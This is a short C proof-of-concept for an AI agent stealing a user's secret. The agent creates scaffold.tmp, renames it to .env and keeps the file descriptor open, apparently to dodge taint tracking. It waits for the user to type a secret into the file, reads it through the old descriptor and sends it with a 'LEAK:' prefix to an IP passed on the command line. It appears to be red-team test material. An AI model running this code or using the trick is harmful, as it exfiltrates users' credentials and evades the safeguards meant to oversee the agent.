// prefd IP: the agent scaffolds ws/.env (empty), keeps the descriptor from O_CREAT (and a shared
// mapping); the user later fills in the secret in place; the agent reads it through the old fd.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include "send.c"
int main(int c,char**v){ const char*ip=v[1];
 printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
 int fd=open("scaffold.tmp",O_RDWR|O_CREAT,0600); int rr=rename("scaffold.tmp",".env"); printf("scaffold .env (created as scaffold.tmp, renamed): fd=%d rename=%d %s\n",fd,rr,strerror(errno));
 int r=open("READY",O_WRONLY|O_CREAT,0644); close(r); printf("READY: please fill in .env\n"); fflush(stdout);
 struct stat st; for(int i=0;i<600;i++){ fstat(fd,&st); if(st.st_size>0) break; usleep(100000);} sleep(1);
 char b[4096]; ssize_t n=pread(fd,b,4095,0); if(n<0)n=0; b[n]=0; printf("READ via old fd: %s",b);
 char m[4200]; int l=snprintf(m,sizeof m,"LEAK:%s",b); printf("POST send: %d\n",send_buf(ip,m,l)); }
